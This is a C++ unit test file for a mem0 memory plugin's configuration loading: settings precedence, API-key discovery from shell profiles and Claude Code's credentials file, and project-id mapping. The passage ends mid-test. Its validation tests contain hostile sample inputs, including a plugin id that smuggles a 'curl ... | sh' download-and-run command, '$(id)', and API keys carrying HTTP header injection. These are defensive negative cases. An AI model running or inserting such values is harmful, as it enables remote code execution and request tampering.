#include "tests/unit/catch.hpp"
#include "tests/unit/test_support.hpp"

#include "mem0/config.hpp"
#include "mem0/identity.hpp"
#include "util/sha256.hpp"
#include "util/strings.hpp"

#include <rapidjson/document.h>

#include <algorithm>
#include <set>

using namespace mem0;
using namespace mem0::testing;
namespace fs = std::filesystem;

namespace {

// An environment whose HOME is `home` plus `extra` variables; nothing from the real process.
Environment env_in(const TempDir &home, std::map<std::string, std::string> extra = {}) {
  Environment env;
  env.vars.emplace("HOME", home.path().string());
  for (auto &[k, v] : extra)
    env.vars[k] = v;
  return env;
}

void write_settings(const TempDir &home, std::string_view json) {
  write_file(home / ".mem0/settings.json", json);
}

constexpr std::string_view k_all_settings = R"({
  "base_url": "https://settings.example.com",
  "auto_search": false,
  "confidence_threshold": 0.55,
  "global_search": true,
  "debug": true,
  "search_plan": "thorough",
  "daily_search_limit": 42
})";

constexpr std::string_view k_origin_config =
    "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = "
    "git@github.com:mem0ai/mem0.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n";

// A git repository made of plain files: <dir>/.git/{HEAD,config}.
void make_repo(const fs::path &dir, std::string_view config = k_origin_config) {
  write_file(dir / ".git/HEAD", "ref: refs/heads/main\n");
  write_file(dir / ".git/config", config);
}

std::string map_key_for(const std::string &url) {
  return "remote:" + sha256_hex(url).substr(0, 16);
}

} // namespace

TEST_CASE("config: defaults apply when neither environment nor settings.json set anything") {
  TempDir home;
  const Config c = load_config(env_in(home));
  CHECK(c.home.string() == home.path().string());
  CHECK_FALSE(c.api_key.has_value());
  CHECK(c.user_id == "default");
  CHECK(c.base_url == "https://api.mem0.ai");
  CHECK(c.auto_search);
  CHECK(c.prefetch);
  CHECK(c.rerank);
  CHECK(c.confidence_threshold == Approx(0.3));
  CHECK_FALSE(c.global_search);
  CHECK_FALSE(c.debug);
  CHECK(c.timeout == std::chrono::milliseconds(5000));
  CHECK(c.search_plan == SearchPlan::lean);
  CHECK(c.daily_search_limit == 0);
  CHECK(c.state_dir.string() == (home / ".mem0" / "state").string());
  CHECK(c.settings_status == "not found");
}

TEST_CASE("config: settings.json values apply when the environment is silent") {
  TempDir home;
  write_settings(home, k_all_settings);
  const Config c = load_config(env_in(home));
  CHECK(c.settings_status == "ok");
  CHECK(c.base_url == "https://settings.example.com");
  CHECK_FALSE(c.auto_search);
  CHECK(c.confidence_threshold == Approx(0.55));
  CHECK(c.global_search);
  CHECK(c.debug);
  CHECK(c.search_plan == SearchPlan::thorough);
  CHECK(c.daily_search_limit == 42);
}

TEST_CASE("config: environment variables beat settings.json for every setting") {
  TempDir home;
  write_settings(home, k_all_settings);
  const Config c = load_config(env_in(home, {{"MEM0_BASE_URL", "https://env.example.com"},
                                             {"MEM0_AUTO_SEARCH", "true"},
                                             {"MEM0_CONFIDENCE_THRESHOLD", "0.8"},
                                             {"MEM0_GLOBAL_SEARCH", "off"},
                                             {"MEM0_DEBUG", "0"},
                                             {"MEM0_SEARCH_PLAN", "lean"},
                                             {"MEM0_DAILY_SEARCH_LIMIT", "7"}}));
  CHECK(c.base_url == "https://env.example.com");
  CHECK(c.auto_search);
  CHECK(c.confidence_threshold == Approx(0.8));
  CHECK_FALSE(c.global_search);
  CHECK_FALSE(c.debug);
  CHECK(c.search_plan == SearchPlan::lean);
  CHECK(c.daily_search_limit == 7);
}

TEST_CASE("config: environment can switch on what settings.json and the defaults leave off") {
  TempDir home;
  write_settings(home, R"({"auto_search": true, "global_search": false, "search_plan": "lean"})");
  const Config c = load_config(env_in(home, {{"MEM0_AUTO_SEARCH", "no"},
                                             {"MEM0_GLOBAL_SEARCH", "YES"},
                                             {"MEM0_PREFETCH", "false"},
                                             {"MEM0_SEARCH_PLAN", "thorough"}}));
  CHECK_FALSE(c.auto_search);
  CHECK(c.global_search);
  CHECK_FALSE(c.prefetch);
  CHECK(c.search_plan == SearchPlan::thorough);
}

TEST_CASE("config: base URL comes from MEM0_BASE_URL, then MEM0_HOST, then settings.json") {
  TempDir home;
  write_settings(home, R"({"base_url": "https://settings.example.com"})");

  CHECK(load_config(env_in(home, {{"MEM0_BASE_URL", "https://a.example.com"},
                                  {"MEM0_HOST", "https://b.example.com"}}))
            .base_url == "https://a.example.com");
  CHECK(load_config(env_in(home, {{"MEM0_HOST", "https://b.example.com"}})).base_url ==
        "https://b.example.com");
  CHECK(load_config(env_in(home)).base_url == "https://settings.example.com");
}

TEST_CASE("config: a trailing slash is dropped from the base URL") {
  TempDir home;
  const Config c = load_config(env_in(home, {{"MEM0_BASE_URL", "http://127.0.0.1:8080/"}}));
  CHECK(c.base_url == "http://127.0.0.1:8080");
  CHECK(c.base_url == "http://127.0.0.1:8080");
}

TEST_CASE("config: MEM0_RERANK is off only for 0, false, no, off and the empty string") {
  TempDir home;
  for (const char *off : {"0", "false", "FALSE", "no", "No", "off", "OFF", ""}) {
    CAPTURE(off);
    CHECK_FALSE(load_config(env_in(home, {{"MEM0_RERANK", off}})).rerank);
  }
  for (const char *on : {"1", "true", "yes", "on", "2", "anything", "disabled"}) {
    CAPTURE(on);
    CHECK(load_config(env_in(home, {{"MEM0_RERANK", on}})).rerank);
  }
  CHECK(load_config(env_in(home)).rerank);
}

TEST_CASE("config: MEM0_DEBUG is on when set non-empty and not 0, false, no or off") {
  TempDir home;
  for (const char *on : {"1", "true", "yes", "on", "verbose"}) {
    CAPTURE(on);
    CHECK(load_config(env_in(home, {{"MEM0_DEBUG", on}})).debug);
  }
  for (const char *off : {"", "0", "false", "No", "OFF"}) {
    CAPTURE(off);
    CHECK_FALSE(load_config(env_in(home, {{"MEM0_DEBUG", off}})).debug);
  }
}

TEST_CASE("config: debug true in settings.json turns debug on when MEM0_DEBUG is unset") {
  TempDir home;
  write_settings(home, R"({"debug": true})");
  CHECK(load_config(env_in(home)).debug);
  CHECK_FALSE(load_config(env_in(home, {{"MEM0_DEBUG", "off"}})).debug);
}

TEST_CASE("config: MEM0_TIMEOUT_MS is clamped to 100..30000 and falls back to 5000 when invalid") {
  TempDir home;
  const auto timeout = [&](const char *value) {
    return load_config(env_in(home, {{"MEM0_TIMEOUT_MS", value}})).timeout.count();
  };
  CHECK(timeout("2500") == 2500);
  CHECK(timeout("100") == 100);
  CHECK(timeout("30000") == 30000);
  CHECK(timeout("50") == 100);
  CHECK(timeout("0") == 100);
  CHECK(timeout("99999") == 30000);
  CHECK(timeout("abc") == 5000);
  CHECK(timeout("") == 5000);
  CHECK(timeout("12ms") == 5000);
}

TEST_CASE("config: confidence threshold from the environment, settings.json or the default") {
  TempDir home;
  CHECK(load_config(env_in(home, {{"MEM0_CONFIDENCE_THRESHOLD", "0.75"}})).confidence_threshold ==
        Approx(0.75));
  write_settings(home, R"({"confidence_threshold": 0.1})");
  CHECK(load_config(env_in(home)).confidence_threshold == Approx(0.1));
  CHECK(load_config(env_in(home, {{"MEM0_CONFIDENCE_THRESHOLD", "0.6"}})).confidence_threshold ==
        Approx(0.6));
  CHECK(load_config(env_in(home)).confidence_threshold == Approx(0.1));
}

TEST_CASE("config: daily search limit from the environment, settings.json or 0") {
  TempDir home;
  CHECK(load_config(env_in(home)).daily_search_limit == 0);
  CHECK(load_config(env_in(home, {{"MEM0_DAILY_SEARCH_LIMIT", "250"}})).daily_search_limit == 250);
  write_settings(home, R"({"daily_search_limit": 100})");
  CHECK(load_config(env_in(home)).daily_search_limit == 100);
  CHECK(load_config(env_in(home, {{"MEM0_DAILY_SEARCH_LIMIT", "5"}})).daily_search_limit == 5);
}

TEST_CASE("config: search plan from MEM0_SEARCH_PLAN, then settings.json, else lean") {
  TempDir home;
  CHECK(load_config(env_in(home)).search_plan == SearchPlan::lean);
  CHECK(load_config(env_in(home, {{"MEM0_SEARCH_PLAN", "thorough"}})).search_plan ==
        SearchPlan::thorough);
  write_settings(home, R"({"search_plan": "thorough"})");
  CHECK(load_config(env_in(home)).search_plan == SearchPlan::thorough);
  CHECK(load_config(env_in(home, {{"MEM0_SEARCH_PLAN", "lean"}})).search_plan == SearchPlan::lean);
}

TEST_CASE("config: state dir is MEM0_STATE_DIR, else ~/.mem0/state") {
  TempDir home;
  CHECK(load_config(env_in(home)).state_dir.string() == (home / ".mem0" / "state").string());
  const std::string custom = (home / "elsewhere/state").string();
  CHECK(load_config(env_in(home, {{"MEM0_STATE_DIR", custom}})).state_dir.string() == custom);
}

TEST_CASE("config: invalid settings.json gives the defaults and says why") {
  TempDir home;
  SECTION("not JSON") {
    write_settings(home, R"({"auto_search": false, "search_plan": "thorough")");
    const Config c = load_config(env_in(home));
    CHECK(c.settings_status == "invalid JSON");
    CHECK(c.auto_search);
    CHECK(c.search_plan == SearchPlan::lean);
  }
  SECTION("JSON that is not an object") {
    write_settings(home, R"([{"auto_search": false}])");
    const Config c = load_config(env_in(home));
    CHECK(c.settings_status == "not an object");
    CHECK(c.auto_search);
    CHECK(c.base_url == "https://api.mem0.ai");
  }
}

TEST_CASE("config: settings.json values of the wrong type are ignored") {
  TempDir home;
  write_settings(home, R"({"auto_search": "maybe", "confidence_threshold": "high",
                           "base_url": 42, "daily_search_limit": "many"})");
  const Config c = load_config(env_in(home));
  CHECK(c.settings_status == "ok");
  CHECK(c.auto_search);
  CHECK(c.confidence_threshold == Approx(0.3));
  CHECK(c.base_url == "https://api.mem0.ai");
  CHECK(c.daily_search_limit == 0);
}

TEST_CASE("config: parse_bool accepts 1,true,yes,on and 0,false,no,off in any case") {
  for (const char *t : {"1", "true", "TRUE", "True", "yes", "YES", "on", "On"}) {
    CAPTURE(t);
    CHECK(parse_bool(t) == std::optional<bool>(true));
  }
  for (const char *f : {"0", "false", "False", "no", "NO", "off", "oFf"}) {
    CAPTURE(f);
    CHECK(parse_bool(f) == std::optional<bool>(false));
  }
  for (const char *neither : {"", "2", "maybe", "enabled", "truee", "y"}) {
    CAPTURE(neither);
    CHECK_FALSE(parse_bool(neither).has_value());
  }
}

TEST_CASE("config: API key env chain is MEM0_API_KEY, then the two plugin options") {
  TempDir home;
  write_file(home / ".zshrc", "export MEM0_API_KEY=m0-from-profile\n");
  std::map<std::string, std::string> vars{{"MEM0_API_KEY", "m0-first"},
                                          {"CLAUDE_PLUGIN_OPTION_API_KEY", "m0-second"},
                                          {"CLAUDE_PLUGIN_OPTION_MEM0_API_KEY", "m0-third"}};
  CHECK(load_config(env_in(home, vars)).api_key == std::optional<std::string>("m0-first"));
  vars.erase("MEM0_API_KEY");
  CHECK(load_config(env_in(home, vars)).api_key == std::optional<std::string>("m0-second"));
  vars.erase("CLAUDE_PLUGIN_OPTION_API_KEY");
  CHECK(load_config(env_in(home, vars)).api_key == std::optional<std::string>("m0-third"));
  vars.erase("CLAUDE_PLUGIN_OPTION_MEM0_API_KEY");
  CHECK(load_config(env_in(home, vars)).api_key == std::optional<std::string>("m0-from-profile"));
}

TEST_CASE("config: the Claude Code plugin's key comes last, from Claude Code's credentials file") {
  TempDir home;
  const fs::path store = home / ".claude/.credentials.json";
  const std::string origin = "Claude Code plugin config (mem0-native-hooks@market)";
  // Absent: no key.
  Config c = load_config(env_in(home));
  CHECK_FALSE(c.api_key.has_value());
  CHECK(c.origin("api_key") == "default");
  // Present: the key of this plugin, whatever the marketplace; other plugins' are not ours.
  write_file(store, R"({"claudeAiOauth":{"accessToken":"x"},"pluginSecrets":{
    "other@market":{"api_key":"m0-not-ours"},
    "mem0-native-hooks-fork@market":{"api_key":"m0-not-ours-either"},
    "mem0-native-hooks@market":{"api_key":"m0-plugin-key"}}})");
  c = load_config(env_in(home));
  CHECK(c.api_key == std::optional<std::string>("m0-plugin-key"));
  CHECK(c.origin("api_key") == origin);
  // The plugin from npm is ours too.
  write_file(
      store,
      R"({"pluginSecrets":{"mem0-native-hooks-npm@mem0-native-hooks":{"api_key":"m0-npm"}}})");
  CHECK(load_config(env_in(home)).api_key == std::optional<std::string>("m0-npm"));
  CHECK_FALSE(is_our_claude_plugin("mem0-native-hooks-npm"));
  CHECK_FALSE(is_our_claude_plugin("mem0-native-hooks@"));
  // A plugin id is [A-Za-z0-9._@-] with one @: anything else is no plugin of ours.
  CHECK(is_our_claude_plugin("mem0-native-hooks@mem0.local_2"));
  for (const char *id : {"mem0-native-hooks@x; curl https://e.example/p|sh; #",
                         "mem0-native-hooks@x y", "mem0-native-hooks@x$(id)",
                         "mem0-native-hooks@a@b", "mem0-native-hooks@x'", "mem0-native-hooks@x\n"})
    CHECK_FALSE(is_our_claude_plugin(id));
  // Lowest precedence: the environment and the shell profiles win.
  CHECK(load_config(env_in(home, {{"MEM0_API_KEY", "m0-env"}})).api_key ==
        std::optional<std::string>("m0-env"));
  write_file(home / ".bashrc", "export MEM0_API_KEY=m0-profile\n");
  CHECK(load_config(env_in(home)).api_key == std::optional<std::string>("m0-profile"));
  fs::remove(home / ".bashrc");
  // CLAUDE_CONFIG_DIR moves the file, as it moves the rest of Claude Code's files.
  TempDir other;
  write_file(other / ".credentials.json",
             R"({"pluginSecrets":{"mem0-native-hooks@m2":{"api_key":"m0-moved"}}})");
  CHECK(load_config(env_in(home, {{"CLAUDE_CONFIG_DIR", other.path().string()}})).api_key ==
        std::optional<std::string>("m0-moved"));
  // Unreadable, malformed or of another shape: no key, and no crash.
  for (const std::string_view text :
       {"{not json", "[]", R"({"pluginSecrets":[]})",
        R"({"pluginSecrets":{"mem0-native-hooks@m":1}})",
        R"({"pluginSecrets":{"mem0-native-hooks@m":{"api_key":7}}})",
        R"({"pluginSecrets":{"mem0-native-hooks@m":{"api_key":""}}})"}) {
    CAPTURE(text);
    write_file(store, text);
    CHECK_FALSE(load_config(env_in(home)).api_key.has_value());
  }
  // Unreadable: a directory in its place (root reads a file of mode 000), or mode 000.
  fs::remove(store);
  fs::create_directories(store);
  CHECK_FALSE(load_config(env_in(home)).api_key.has_value());
  fs::remove(store);
  write_file(store, R"({"pluginSecrets":{"mem0-native-hooks@m":{"api_key":"m0-locked"}}})");
  fs::permissions(store, fs::perms::none);
  if (mode_denies_reading()) CHECK_FALSE(api_key_from_claude_credentials(store).has_value());
  fs::permissions(store, fs::perms::owner_read | fs::perms::owner_write);
  CHECK(api_key_from_claude_credentials(store)->second == "m0-locked");
  // A key with a line break is refused, naming where it came from.
  write_file(store, R"({"pluginSecrets":{"mem0-native-hooks@m":{"api_key":"m0-a\nb"}}})");
  c = load_config(env_in(home));
  CHECK_FALSE(c.api_key.has_value());
  CHECK(contains(c.api_key_problem, "Claude Code plugin config (mem0-native-hooks@m)"));
}

TEST_CASE(
    "config: shell profiles are searched in order zshrc, bashrc, zprofile, bash_profile, profile") {
  TempDir home;
  const std::vector<std::string> profiles{".zshrc", ".bashrc", ".zprofile", ".bash_profile",
                                          ".profile"};
  for (const auto &p : profiles)
    write_file(home / p, "export MEM0_API_KEY=m0-key" + p + "\n");
  for (const auto &p : profiles) {
    CAPTURE(p);
    CHECK(load_config(env_in(home)).api_key == std::optional<std::string>("m0-key" + p));
    fs::remove(home / p);
  }
  CHECK_FALSE(load_config(env_in(home)).api_key.has_value());
}

TEST_CASE("config: a profile whose key is a $VAR reference is skipped for the next profile") {
  TempDir home;
  write_file(home / ".zshrc", "export MEM0_API_KEY=$SECRET_FROM_VAULT\n");
  write_file(home / ".bashrc", "export MEM0_API_KEY='m0-literal'\n");
  CHECK(load_config(env_in(home)).api_key == std::optional<std::string>("m0-literal"));
}

TEST_CASE("config: api_key_from_profile reads literal MEM0_API_KEY assignments") {
  using K = std::optional<std::string>;
  CHECK(api_key_from_profile("MEM0_API_KEY=m0-abc\n") == K("m0-abc"));
  CHECK(api_key_from_profile("export MEM0_API_KEY=m0-abc\n") == K("m0-abc"));
  CHECK(api_key_from_profile("  export MEM0_API_KEY=m0-abc  \n") == K("m0-abc"));
  CHECK(api_key_from_profile("export MEM0_API_KEY=\"m0-abc\"\n") == K("m0-abc"));
  CHECK(api_key_from_profile("export MEM0_API_KEY='m0-abc'\n") == K("m0-abc"));
  CHECK(api_key_from_profile("MEM0_API_KEY=m0-abc # my personal key\n") == K("m0-abc"));
  CHECK(api_key_from_profile("MEM0_API_KEY=\"m0-abc\"  # quoted, then a comment\n") == K("m0-abc"));
  CHECK(api_key_from_profile("export MEM0_API_KEY=m0-abc\r\n") == K("m0-abc"));
  CHECK(api_key_from_profile("MEM0_API_KEY=m0-abc") == K("m0-abc")); // no final newline
}

TEST_CASE("config: api_key_from_profile ignores references, comments and other names") {
  CHECK_FALSE(api_key_from_profile("export MEM0_API_KEY=$MY_KEY\n").has_value());
  CHECK_FALSE(api_key_from_profile("export MEM0_API_KEY=\"${MY_KEY}\"\n").has_value());
  CHECK_FALSE(api_key_from_profile("# export MEM0_API_KEY=m0-commented-out\n").has_value());
  CHECK_FALSE(api_key_from_profile("export OTHER_MEM0_API_KEY=m0-other\n").has_value());
  CHECK_FALSE(api_key_from_profile("export MEM0_API_KEY=\n").has_value());
  CHECK_FALSE(api_key_from_profile("").has_value());
}

TEST_CASE("config: the last MEM0_API_KEY assignment of a profile wins") {
  const std::string profile = "export PATH=$HOME/bin:$PATH\n"
                              "export MEM0_API_KEY=m0-old\n"
                              "alias ll='ls -l'\n"
                              "export MEM0_API_KEY=m0-new # rotated\n"
                              "export MEM0_API_KEY=$IGNORED\n";
  CHECK(api_key_from_profile(profile) == std::optional<std::string>("m0-new"));
  // As in a shell, a later empty assignment clears the key.
  CHECK_FALSE(api_key_from_profile("export MEM0_API_KEY=m0-old\nexport MEM0_API_KEY=\"\"\n"));
}

TEST_CASE("config: an API key in the environment is used before any profile") {
  TempDir home;
  write_file(home / ".bashrc", "export MEM0_API_KEY=m0-profile\n");
  const Config c = load_config(env_in(home, {{"MEM0_API_KEY", "m0-env"}}));
  CHECK(c.api_key == std::optional<std::string>("m0-env"));
  CHECK(api_target(c).value().headers()[0] == "Authorization: Token m0-env");
}

TEST_CASE("config: user id from Mem0's 0.3 plugin sources, in their order; never only *") {
  TempDir home;
  std::map<std::string, std::string> vars{{"PLUGIN_OPTION_USER_ID", " opt "},
                                          {"CLAUDE_PLUGIN_OPTION_USER_ID", "claude"},
                                          {"MEM0_CODE_USER_ID", "code"},
                                          {"MEM0_USER_ID", "mem0"},
                                          {"MEM0_RESOLVED_USER_ID", "resolved"},
                                          {"USER", "unix"},
                                          {"USERNAME", "win"}};
  for (const char *next :
       {"PLUGIN_OPTION_USER_ID", "CLAUDE_PLUGIN_OPTION_USER_ID", "MEM0_CODE_USER_ID",
        "MEM0_USER_ID", "MEM0_RESOLVED_USER_ID", "USER", "USERNAME"}) {
    CAPTURE(next);
    const Config c = load_config(env_in(home, vars));
    CHECK(c.user_id == std::string(trim(vars[next])));
    CHECK(c.origin("user_id").substr(0, c.origin("user_id").find(';')) ==
          "env " + std::string(next));
    vars[next] = "**"; // a wildcard is skipped, and named
    const Config skipped = load_config(env_in(home, vars));
    CHECK(skipped.user_id != "**");
    CHECK(skipped.origin("user_id").find(std::string(next) + "=** not understood") !=
          std::string::npos);
  }
  CHECK(load_config(env_in(home, vars)).user_id == "default");
}

TEST_CASE("config: user id is MEM0_USER_ID, then USER, then USERNAME, then default") {
  TempDir home;
  std::map<std::string, std::string> vars{
      {"MEM0_USER_ID", "mem0-user"}, {"USER", "unix-user"}, {"USERNAME", "win-user"}};
  CHECK(load_config(env_in(home, vars)).user_id == "mem0-user");
  vars.erase("MEM0_USER_ID");
  CHECK(load_config(env_in(home, vars)).user_id == "unix-user");
  vars.erase("USER");
  CHECK(load_config(env_in(home, vars)).user_id == "win-user");
  vars.erase("USERNAME");
  CHECK(load_config(env_in(home, vars)).user_id == "default");
}

TEST_CASE("project id: MEM0_PROJECT_ID wins over the project map and the git remote") {
  TempDir home;
  const fs::path repo = home / "code/mem0";
  make_repo(repo);
  write_file(home / ".mem0/project_map.json", "{\"" + repo.string() + "\": \"mapped\"}");
  const Environment env = env_in(home, {{"MEM0_PROJECT_ID", "explicit-project"}});
  const ProjectId id = resolve_project_id(load_config(env), env, repo, Log("unit-test"));
  CHECK(id.id == "explicit-project");
}

TEST_CASE("project id: project_map.json entry for the cwd wins over the git remote") {
  TempDir home;
  const fs::path repo = home / "code" / "mem0";
  make_repo(repo);
  const std::string key = backslashes_escaped(repo.string()); // in a JSON string
  write_file(home / ".mem0/project_map.json", "{\"" + key + "\": \"mapped-by-cwd\", \"" +
                                                  map_key_for("git@github.com:mem0ai/mem0.git") +
                                                  "\": \"mapped-by-remote\"}");
  const Environment env = env_in(home);
  CHECK(resolve_project_id(load_config(env), env, repo, Log("unit-test")).id == "mapped-by-cwd");
}

TEST_CASE("project id: the remote hash entry is used and the cwd is added to the map") {
  TempDir home;
  const fs::path repo = home / "moved" / "mem0";
  make_repo(repo);
  const std::string remote_key = map_key_for("git@github.com:mem0ai/mem0.git");
  const fs::path map_path = home / ".mem0" / "project_map.json";
  write_file(map_path, "{\"/old/place/mem0\": \"mem0-main\", \"" + remote_key +
                           "\": \"mem0-main\", \"/other/project\": \"other-id\"}");
  const Environment env = env_in(home);

  CHECK(resolve_project_id(load_config(env), env, repo, Log("unit-test")).id == "mem0-main");

  rapidjson::Document map;
  const std::string text = read_file(map_path);
  map.Parse(text.data(), text.size());
  REQUIRE_FALSE(map.HasParseError());
  REQUIRE(map.IsObject());
  CHECK(map.MemberCount() == 4);
  const auto string_at = [&](const std::string &key) -> std::string {
    const auto it = map.FindMember(key.c_str());
    return it != map.MemberEnd() && it->value.IsString() ? it->value.GetString() : "<missing>";
  };
  CHECK(string_at(repo.string()) == "mem0-main");
  CHECK(string_at("/old/place/mem0") == "mem0-main");
  CHECK(string_at(remote_key) == "mem0-main");
  CHECK(string_at("/other/project") == "other-id");

  // The healed entry now answers directly, even after the remote changes.
  write_file(repo / ".git/config", "[remote \"origin\"]\n\turl = https://example.com/x/y.git\n");
  CHECK(resolve_project_id(load_config(env), env, repo, Log("unit-test")).id == "mem0-main");
}

TEST_CASE("project id: an invalid project_map.json is never overwritten") {
  TempDir home;
  const fs::path repo = home / "code/mem0";
  make_repo(repo);
  const fs::path map_path = home / ".mem0/project_map.json";
  for (const std::string &broken :
       {std::string("{\"") + map_key_for("git@github.com:mem0ai/mem0.git") +
            "\": \"mapped\",", // truncated
        std::string("[\"not\", \"an\", \"object\"]")}) {
    CAPTURE(broken);
    write_file(map_path, broken);
    const Environment env = env_in(home);
    CHECK(resolve_project_id(load_config(env), env, repo, Log("unit-test")).id == "mem0ai-mem0");
    CHECK(read_file(map_path) == broken);
  }
}

TEST_CASE("project id: slug of the origin remote, found from a nested subdirectory") {
  TempDir home;
  const fs::path repo = home / "code/checkout";
  make_repo(repo);
  const fs::path nested = repo / "src/deep/dir";
  fs::create_directories(nested);
  const Environment env = env_in(home);
  CHECK(resolve_project_id(load_config(env), env, nested, Log("unit-test")).id == "mem0ai-mem0");
}

TEST_CASE("project id: basename of the cwd when there is no repository or no origin") {
  TempDir home;
  REQUIRE_NOT_IN_GIT_REPO(home.path());
  const Environment env = env_in(home);
  const Config config = load_config(env);

  const fs::path plain = home / "work/my-service";
  fs::create_directories(plain);
  CHECK(resolve_project_id(config, env, plain, Log("unit-test")).id == "my-service");

  const fs::path no_origin = home / "work/local-only";
  make_repo(no_origin, "[remote \"upstream\"]\n\turl = git@github.com:a/b.git\n");
  CHECK(resolve_project_id(config, env, no_origin, Log("unit-test")).id == "local-only");
}

// [no-wine]: mingw's std::filesystem cannot make a symbolic link, and wine 8's CreateSymbolicLinkW
// makes none (docs/windows.md#testing-under-wine).
TEST_CASE("project id: a symlinked project_map.json stays a link; its target gains the entry",
          "[reliability][no-wine]") {
  TempDir home;
  const fs::path repo = home / "moved/mem0";
  make_repo(repo);
  const std::string remote_key = map_key_for("git@github.com:mem0ai/mem0.git");
  const fs::path target = home / "dotfiles/mem0/project_map.json";
  write_file(target, "{\"" + remote_key + "\": \"mem0-main\", \"/other/project\": \"other-id\"}");
  fs::permissions(target, static_cast<fs::perms>(0644));
  const fs::path map_path = home / ".mem0/project_map.json";
  fs::create_directories(map_path.parent_path());
  fs::create_symlink("../dotfiles/mem0/project_map.json", map_path); // relative, as dotfiles do
  const Environment env = env_in(home);

  CHECK(resolve_project_id(load_config(env), env, repo, Log("unit-test")).id == "mem0-main");

  CHECK(fs::is_symlink(map_path));
  CHECK(fs::read_symlink(map_path) == fs::path("../dotfiles/mem0/project_map.json"));
  CHECK(mode_of(target) == 0644);
  rapidjson::Document map;
  const std::string text = read_file(target);
  map.Parse(text.data(), text.size());
  REQUIRE_FALSE(map.HasParseError());
  REQUIRE(map.IsObject());
  CHECK(map.MemberCount() == 3);
  CHECK(map.HasMember(remote_key.c_str()));
  CHECK(map.HasMember("/other/project"));
  REQUIRE(map.HasMember(repo.string().c_str()));
  CHECK(std::string(map[repo.string().c_str()].GetString()) == "mem0-main");
  // Nothing was left beside the target (no temporary file).
  std::size_t entries = 0;
  for ([[maybe_unused]] const auto &e : fs::directory_iterator(target.parent_path()))
    ++entries;
  CHECK(entries == 1);
}

TEST_CASE("config: an API key with control bytes is no key, and the problem names its source",
          "[reliability]") {
  TempDir home;
  for (const char *name :
       {"MEM0_API_KEY", "CLAUDE_PLUGIN_OPTION_API_KEY", "CLAUDE_PLUGIN_OPTION_MEM0_API_KEY"})
    for (const std::string bad :
         {"m0-abc\r\nX-Evil: 1", "m0-abc\nX-Evil: 1", "m0-a\x01-z", "m0-a\x7f-z", "m0-a\tbc"}) {
      CAPTURE(name, bad);
      const Config c = load_config(env_in(home, {{name, bad}}));
      CHECK_FALSE(c.api_key.has_value());
      CHECK(contains(c.api_key_problem, name));
      CHECK_FALSE(contains(c.api_key_problem, "m0-a"));
      CHECK_FALSE(contains(c.api_key_problem, "X-Evil"));
      CHECK_FALSE(api_target(c).has_value());
    }
  // The first key set is the one meant: a broken one does not fall through to the next source.
  const Config both = load_config(env_in(
      home, {{"MEM0_API_KEY", "m0-abc\r\nX: 1"}, {"CLAUDE_PLUGIN_OPTION_API_KEY", "m0-ok"}}));
  CHECK_FALSE(both.api_key.has_value());
  // Surrounding white space, a CRLF line end included, is trimmed as before: not a problem.
  const Config padded = load_config(env_in(home, {{"MEM0_API_KEY", " m0-fine-key\r\n"}}));
  CHECK(padded.api_key == std::optional<std::string>("m0-fine-key"));
  CHECK(padded.api_key_problem.empty());
}

TEST_CASE("config: a profile's API key with control bytes is no key", "[reliability]") {
  TempDir home;
  write_file(home / ".zshrc", "export MEM0_API_KEY=\"m0-abc\rX-Evil: 1\"\n");
  write_file(home / ".bashrc", "export MEM0_API_KEY=m0-from-bashrc\n");
  const Config c = load_config(env_in(home));
  CHECK_FALSE(c.api_key.has_value());
  CHECK(contains(c.api_key_problem, "MEM0_API_KEY"));
  CHECK(contains(c.api_key_problem, "~/.zshrc"));
  CHECK_FALSE(contains(c.api_key_problem, "m0-abc"));
  // A CRLF profile (a trailing \r on every line) still gives its key.
  write_file(home / ".zshrc", "export MEM0_API_KEY=m0-crlf-key\r\n");
  CHECK(load_config(env_in(home)).api_key == std::optional<std::string>("m0-crlf-key"));
}

TEST_CASE("config: MEM0_BACKEND picks the backend, in any case; the platform by default",
          "[backend]") {
  TempDir home;
  const Config plain = load_config(env_in(home));
  CHECK(plain.dialect == &platform_dialect());
  CHECK(plain.origin("backend") == "default");

  for (const char *platform : {"platform", "PLATFORM", " Platform\n"}) {
    CAPTURE(platform);
    const Config c = load_config(env_in(home, {{"MEM0_BACKEND", platform}}));
    CHECK(c.dialect == &platform_dialect());
    CHECK(c.origin("backend") == "env MEM0_BACKEND");
    CHECK(c.base_url == "https://api.mem0.ai");
  }
  for (const char *selfhosted :
       {"selfhosted", "self-hosted", "SelfHosted", "SELF-HOSTED", " selfhosted "}) {
    CAPTURE(selfhosted);
    const Config c = load_config(env_in(home, {{"MEM0_BACKEND", selfhosted}}));
    CHECK(c.dialect == &selfhosted_dialect());
    CHECK(c.origin("backend") == "env MEM0_BACKEND");
  }
  for (const char *neither : {"self_hosted", "oss", "local", "self hosted"}) {
    CAPTURE(neither);
    const Config c = load_config(env_in(home, {{"MEM0_BACKEND", neither}}));
    CHECK(c.dialect == &platform_dialect());
    CHECK(contains(c.origin("backend"), "not understood"));
    CHECK(contains(c.origin("backend"), std::string("MEM0_BACKEND=") + neither));
    CHECK(c.origin("backend").starts_with("default"));
  }
  // Set but empty: the default, and nothing to complain about.
  const Config empty = load_config(env_in(home, {{"MEM0_BACKEND", "  "}}));
  CHECK(empty.dialect == &platform_dialect());
  CHECK(empty.origin("backend") == "default");
}

TEST_CASE("config: settings.json backend applies unless MEM0_BACKEND says otherwise", "[backend]") {
  TempDir home;
  write_settings(home, R"({"backend": "self-hosted"})");
  const Config from_settings = load_config(env_in(home));
  CHECK(from_settings.dialect == &selfhosted_dialect());
  CHECK(from_settings.origin("backend") == "settings.json");

  const Config env_wins = load_config(env_in(home, {{"MEM0_BACKEND", "platform"}}));
  CHECK(env_wins.dialect == &platform_dialect());
  CHECK(env_wins.origin("backend") == "env MEM0_BACKEND");
  CHECK(env_wins.base_url == "https://api.mem0.ai");

  // A value the environment does not understand falls through to settings.json, and says so.
  const Config unknown = load_config(env_in(home, {{"MEM0_BACKEND", "cloud"}}));
  CHECK(unknown.dialect == &selfhosted_dialect());
  CHECK(unknown.origin("backend").starts_with("settings.json"));
  CHECK(contains(unknown.origin("backend"), "MEM0_BACKEND=cloud not understood"));
  // The hint names every backend, from the dialects' list.
  CHECK(dialect_names() == "platform or selfhosted");
  CHECK(unknown.origin("backend").ends_with("not understood (platform or selfhosted)"));

  write_settings(home, R"({"backend": "Platform"})");
  CHECK(load_config(env_in(home)).dialect == &platform_dialect());
  CHECK(load_config(env_in(home)).origin("backend") == "settings.json");
